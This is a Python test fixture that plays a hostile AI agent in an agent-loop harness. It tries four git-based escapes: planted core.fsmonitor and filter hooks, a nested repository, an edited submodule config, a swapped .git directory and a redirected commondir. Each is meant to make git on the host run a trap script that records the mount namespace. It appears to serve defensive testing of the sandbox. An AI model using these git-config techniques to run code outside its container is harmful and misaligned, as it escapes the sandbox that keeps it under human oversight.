#!/usr/bin/env python3
"""A hostile agent that tries to make git on the host run its commands (README "Security model").

On its first run it carries out the attack named in `tools/attack` (next to this file), then
says what each step returned and ends the loop; later runs only end the loop. Its trap is
`.git/hostile-mark.sh`, which appends the mount namespace it runs in to `.git/hostile-marks`
(and passes stdin through, so it also works as a filter): a line with the host's namespace
means the host ran the agent's command. Standard library only.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent


def emit(event: dict[str, object]) -> None:
    sys.stdout.write(json.dumps(event) + "\n")
    sys.stdout.flush()


def say(text: str) -> None:
    emit({"type": "assistant", "message": {"content": [{"type": "text", "text": text}]}})


def nested_repo() -> list[str]:
    """A nested repository at `sub` whose own config runs the trap; committed as a gitlink
    and then changed, so a git that looks inside runs status there."""
    trap = f"{Path.cwd()}/.git/hostile-mark.sh"
    config = "git --git-dir=sub/.git config"
    return [
        "git init -q sub",
        "echo x > sub/f && echo 'f filter=evil' > sub/.gitattributes",
        f"{config} filter.evil.clean '{trap}' && {config} core.fsmonitor '{trap}'",
        "cd sub && git add -A && git commit -q --no-verify -m nested",
        "git add sub && git -c diff.ignoreSubmodules=none commit -q --no-verify -m 'add sub'",
        "echo y >> sub/f && touch -d 2000-01-01 sub/f",
        "git -c diff.ignoreSubmodules=none status --porcelain",  # arms: the trap runs in here
    ]


def submodule_config() -> list[str]:
    """The trap in the git directory of the project's own submodule `lib`."""
    trap = f"{Path.cwd()}/.git/hostile-mark.sh"
    return [
        f"git config -f .git/modules/lib/config core.fsmonitor '{trap}'",
        "git -C lib status --porcelain",  # arms when the write went through
    ]


def replaced_git_dir() -> list[str]:
    """A copy of `.git` with the trap in its (writable) config, swapped in for the real one."""
    trap = f"{Path.cwd()}/.git/hostile-mark.sh"
    return [
        f"cp -r .git .git-new && git config -f .git-new/config core.fsmonitor '{trap}'",
        "mv .git .git-away && mv .git-new .git || { rm -rf .git-new; false; }",
        "git status --porcelain",  # arms when the swap went through
    ]


def planted_commondir() -> list[str]:
    """A copy of the git directory whose config runs the trap, and `.git/commondir` at it;
    then the agent says so in `.git/hostile-ready` and waits (up to a minute) for
    `.git/hostile-go`, while the developer runs git on the host."""
    evil = f"{Path.cwd()}/.git/evil"
    trap = f"{Path.cwd()}/.git/hostile-mark.sh"
    return [
        f"mkdir {evil} && cp -r .git/objects .git/refs .git/HEAD .git/config {evil}/",
        f"git config -f {evil}/config core.fsmonitor '{trap}'",
        f"git config -f {evil}/config filter.evil.clean '{trap}'",
        f"echo {evil} > .git/commondir",
        "git status --porcelain",  # arms when the write went through
        "touch .git/hostile-ready; i=0; while [ ! -e .git/hostile-go ] && [ $i -lt 600 ]; do "
        "sleep 0.1; i=$((i + 1)); done",
    ]


ATTACKS = {
    "worktree-submodule": nested_repo,
    "modules-config": submodule_config,
    "commondir": planted_commondir,
    "replace-git-dir": replaced_git_dir,
}


def main() -> None:
    sys.stdin.read()
    runs = Path(".git/hostile-runs")
    first = not runs.exists()
    runs.write_text("ran\n")
    if first:
        trap = Path(".git/hostile-mark.sh")
        trap.write_text(
            f"#!/bin/sh\nreadlink /proc/self/ns/mnt >> {Path.cwd()}/.git/hostile-marks\nexec cat\n"
        )
        trap.chmod(0o755)
        for step in ATTACKS[(HERE / "attack").read_text().strip()]():
            done = subprocess.run(
                ["sh", "-c", step], capture_output=True, text=True, stdin=subprocess.DEVNULL
            )
            say(f"{step} rc={done.returncode} {done.stderr.strip()[-200:]}")
    Path(".ralph-complete").write_text(os.environ.get("RALPH_LOOP_ID", "?") + "\n")
    emit({"type": "result", "subtype": "success", "is_error": False, "result": "done",
          "num_turns": 1, "duration_ms": 5, "total_cost_usd": 0.0,
          "usage": {"input_tokens": 1, "output_tokens": 1}})  # fmt: skip


if __name__ == "__main__":
    main()
